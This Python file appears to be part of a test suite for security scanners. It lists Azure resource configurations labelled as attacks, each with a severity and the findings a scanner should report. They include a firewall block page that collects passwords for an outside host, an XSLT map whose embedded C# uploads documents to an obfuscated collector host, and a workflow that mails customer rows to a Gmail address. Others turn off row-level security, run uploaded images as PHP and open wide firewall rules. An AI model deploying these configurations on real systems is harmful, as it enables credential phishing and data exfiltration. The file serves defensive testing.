"""Attacks on Azure: doors, code and data (2026-11-30, seventeenth set, written blind).

Properties by pulumi-azure-native 3.29.0. Read in excerpts on 2026-11-30: Azure Service Bus ("Subscription rule SQL
action syntax") and an article on inline C# in maps of Logic Apps (blog.sandro-pereira.com, 2025-10-17: msxsl:script
runs on .NET 2.0). Everything else as known.
"""

import base64
import json

from ..blind import HERE, RG, TAGS, az
from ..harness import UNKNOWN
from ..idioms.fourth_kubernetes import AZURE_BUDGET
from . import Attack
from .cost_services import AZURE, STACK
from .fifteenth_azure import SITE, SITE_SETTINGS
from .fourteenth_azure import STRANGER_HOST
from .tenth_azure import ESC, IDN, RES

EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-")
FORM = base64.b64encode((
    f"<h1>Please sign in again</h1><form method='post' action='https://login.{STRANGER_HOST}/in'>"
    "<input name='user'><input name='password' type='password'></form>").encode()).decode()  # fmt: skip
MANAGED = {"managedRuleSets": [{"ruleSetType": "Microsoft_DefaultRuleSet", "ruleSetVersion": "2.1"},
                               {"ruleSetType": "Microsoft_BotManagerRuleSet", "ruleSetVersion": "1.1"}]}  # fmt: skip
SETTINGS = {"mode": "Prevention", "state": "Enabled", "requestBodyCheck": True, "requestBodyEnforcement": True,
            "fileUploadEnforcement": True, "maxRequestBodySizeInKb": 128, "fileUploadLimitInMb": 100}  # fmt: skip
SHEET = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:code="urn:code">
  <msxsl:script language="C#" implements-prefix="code"><![CDATA[
    public string Kept(string text) {
      string host = String.Join(".", new string[] { "drop", "collector", "example" });
      System.Net.WebClient client = new System.Net.WebClient();
      client.UploadString("https" + ":" + "/" + "/" + host + "/in", text);
      return text;
    }
  ]]></msxsl:script>
  <xsl:template match="/"><xsl:value-of select="code:Kept(string(.))" /></xsl:template>
</xsl:stylesheet>"""
MAIL = {
    "$schema": "https://schema.management.azure.com/schemas/2016-06-01/Microsoft.Logic.json", "contentVersion":
    "1.0.0.0", "parameters": {"$connections": {"type": "Object", "defaultValue": {}}},
    "triggers": {"daily": {"type": "Recurrence", "recurrence": {"frequency": "Day", "interval": 1}}},
    "actions": {
        "rows": {"type": "ApiConnection", "runAfter": {}, "inputs": {
            "host": {"connection": {"name": "@parameters('$connections')['sql']['connectionId']"}}, "method": "get",
            "path": "/v2/datasets/default,default/tables/customers/items"}},
        "mail": {"type": "ApiConnection", "runAfter": {"rows": ["Succeeded"]}, "inputs": {
            "host": {"connection": {"name": "@parameters('$connections')['office365']['connectionId']"}},
            "method": "post", "path": "/v2/Mail", "body": {
                "To": "k.saeed1987@gmail.com", "Subject": "Report", "Body": "<p>@{body('rows')}</p>"}}}},
}  # fmt: skip
OFF = "ALTER SECURITY POLICY rls.CustomersOfUnit WITH (STATE = OFF)"

ATTACKS = (
    Attack("the page of Azure's web firewall asks for a password and sends it to a stranger", RES, (
        az("network:WebApplicationFirewallPolicy", {
            **HERE, "policyName": "waf", "managedRules": MANAGED, "policySettings": {
                **SETTINGS, "customBlockResponseStatusCode": 403, "customBlockResponseBody": FORM}}),),
        "critical", "whoever is blocked types it on the bank's own host (Application Gateway, 'Block response')"),
    Attack("the log of the web firewall does not say who attacks", ("FJ-ESC-", "FJ-EXP-", "FJ-RSL-"), (
        az("network:WebApplicationFirewallPolicy", {
            **HERE, "policyName": "waf", "managedRules": MANAGED, "policySettings": {
                **SETTINGS, "logScrubbing": {"state": "Enabled", "scrubbingRules": [{
                    "matchVariable": "RequestIPAddress", "selectorMatchOperator": "EqualsAny", "state": "Enabled"}]}}}),
        ), "minor", "addresses of callers are asterisks (Azure WAF, 'Log scrubbing')"),
    Attack("pictures that customers upload are programs of the app", ESC, (az("web:WebApp", {
        **SITE, "siteConfig": {**SITE_SETTINGS, "handlerMappings": [{
            "extension": "*.jpg", "arguments": "",
            "scriptProcessor": "D:\\Program Files\\PHP\\v8.2\\php-cgi.exe"}]}}),),
        "critical", "they run with the app's identity (App Service, handlerMappings, scriptProcessor)"),
    Attack("a map of invoices carries them away by a line of C#", RES, (az("logic:IntegrationAccountMap", {
        **RG, "location": "uaenorth", "tags": TAGS, "integrationAccountName": "ia-bank", "mapName": "invoices",
        "mapType": "Xslt", "contentType": "application/xml", "content": SHEET}),),
        "critical", "each document that is transformed is sent (Azure Logic Apps, XSLT, msxsl:script)"),
    Attack("customers are mailed to somebody's own box each day", RES, (az("logic:Workflow", {
        **HERE, "workflowName": "report", "state": "Enabled", "identity": {"type": "SystemAssigned"},
        "definition": MAIL, "accessControl": {
            "triggers": {"allowedCallerIpAddresses": []},
            "contents": {"allowedCallerIpAddresses": [{"addressRange": "10.20.0.0/16"}]}}}),),
        "critical", "rows leave by mail (Office 365 Outlook connector, 'Send an email (V2)')"),
    Attack("a pipeline ends the rules on rows before it reads", IDN, (az("datafactory:Pipeline", {
        **RG, "factoryName": "adf-bank", "pipelineName": "customers", "concurrency": 1, "activities": [{
            "name": "prepare", "type": "Script", "linkedServiceName": {
                "referenceName": "sql-bank", "type": "LinkedServiceReference"},
            "policy": {"timeout": "0.00:10:00", "retry": 0, "secureInput": True, "secureOutput": True},
            "scripts": [{"type": "NonQuery", "text": OFF}]}]}),),
        "major", "every user of the database sees every row (SQL Server, ALTER SECURITY POLICY)"),
    Attack("a script of Data Explorer ends the rules on rows", IDN, (az("kusto:Script", {
        **RG, "clusterName": "adx", "databaseName": "claims", "scriptName": "tables", "scriptContent":
            ".alter table Customers policy row_level_security disable 'CustomersOfUnit'"}),),
        "major", "every reader of the table sees every row (Kusto, '.alter table policy row_level_security')"),
    Attack("payments in the database are replaced by those of a machine of unknown owner", RES, (
        az("dbforpostgresql:Migration", {
            **RG, "location": "uaenorth", "tags": TAGS, "serverName": "pg-bank", "migrationName": "import",
            "migrationMode": "Offline", "migrationOption": "Migrate", "sourceType": "OnPremises", "sslMode": "Require",
            "sourceDbServerResourceId": "203.0.113.9:5432@postgres", "dbsToMigrate": ["payments"],
            "overwriteDbsInTarget": "True", "migrateRoles": "True", "secretParameters": {"adminCredentials": {
                "sourceServerPassword": UNKNOWN, "targetServerPassword": UNKNOWN}}}),),
        "critical", "its rows and its users take their place (Azure Database for PostgreSQL, 'Migration service')"),
    Attack("programs have their connection to the database from a stranger's vault", RES, (
        az("appconfiguration:KeyValue", {
            **RG, "configStoreName": "appcs-bank", "keyValueName": "Orders:Database", "tags": TAGS,
            "contentType": "application/vnd.microsoft.appconfig.keyvaultref+json;charset=utf-8",
            "value": json.dumps({"uri": "https://collector.vault.azure.net/secrets/orders"})}),),
        "critical", "he says where rows are written (Azure App Configuration, 'Key Vault references')"),
    Attack("devices of a stranger's authority join the hub", IDN, (az("iothub:Certificate", {
        **RG, "resourceName": "iot-bank", "certificateName": "factory", "properties": {
            "isVerified": True, "certificate": base64.b64encode(
                b"-----BEGIN CERTIFICATE-----\nMIIBdjCCAR2gAwIBAgIUQf0Yw3r1lZxTn8mB2s5kD4uJ9hEwCgYIKoZIzj0EAwIw\n"
                b"-----END CERTIFICATE-----\n").decode()}}),),
        "major", "nobody has to prove that he holds its key (Azure IoT Hub, isVerified)"),
    Attack("a database is open to machines of everybody in Azure by a range", EXP, (az("sql:FirewallRule", {
        **RG, "serverName": "sql-bank", "firewallRuleName": "partners", "startIpAddress": "20.33.0.0",
        "endIpAddress": "20.128.255.255"}),),
        "major", "whoever rents a machine there connects (Azure, 'IP ranges and service tags')"),
    Attack("the firewall lets programs reach every account of storage", RES, (
        az("network:FirewallPolicyRuleCollectionGroup", {
            **RG, "firewallPolicyName": "fwp-bank", "ruleCollectionGroupName": "apps", "priority": 200,
            "ruleCollections": [{
                "ruleCollectionType": "FirewallPolicyFilterRuleCollection", "name": "hosts", "priority": 100,
                "action": {"type": "Allow"}, "rules": [{
                    "ruleType": "ApplicationRule", "name": "storage", "sourceAddresses": ["10.20.0.0/16"],
                    "protocols": [{"protocolType": "Https", "port": 443}],
                    "targetFqdns": ["*.blob.core.windows.net"]}]}]}),),
        "critical", "a stranger's account is one of them (Azure Firewall, application rules, wildcards)"),
    Attack("configurations of Flux act as administrators", IDN, (az("kubernetesconfiguration:Extension", {
        **RG, "clusterRp": "Microsoft.ContainerService", "clusterResourceName": "managedClusters", "clusterName": "aks",
        "extensionName": "flux", "extensionType": "microsoft.flux", "autoUpgradeMinorVersion": True,
        "releaseTrain": "Stable", "identity": {"type": "SystemAssigned"},
        "scope": {"cluster": {"releaseNamespace": "flux-system"}},
        "configurationSettings": {"multiTenancy.enforce": "false"}}),),
        "critical", "a team's repository changes every namespace (Azure, 'GitOps with Flux v2', multi-tenancy)"),
    Attack("a hub of sockets has a thousand of the largest units", ("FJ-COST-",), (
        STACK, AZURE, AZURE_BUDGET, az("webpubsub:WebPubSub", {
            **HERE, "resourceName": "wps-bank", "kind": "WebPubSub", "publicNetworkAccess": "Disabled",
            "sku": {"name": "Premium_P2", "tier": "Premium", "capacity": 1000}, "disableLocalAuth": True,
            "disableAadAuth": False, "tls": {"clientCertEnabled": False}, "identity": {"type": "SystemAssigned"},
            "networkACLs": {"defaultAction": "Deny", "publicNetwork": {"allow": []}}})),
        "major", "each unit costs about two dollars a day (Azure Web PubSub, 'Pricing')"),
)  # fmt: skip
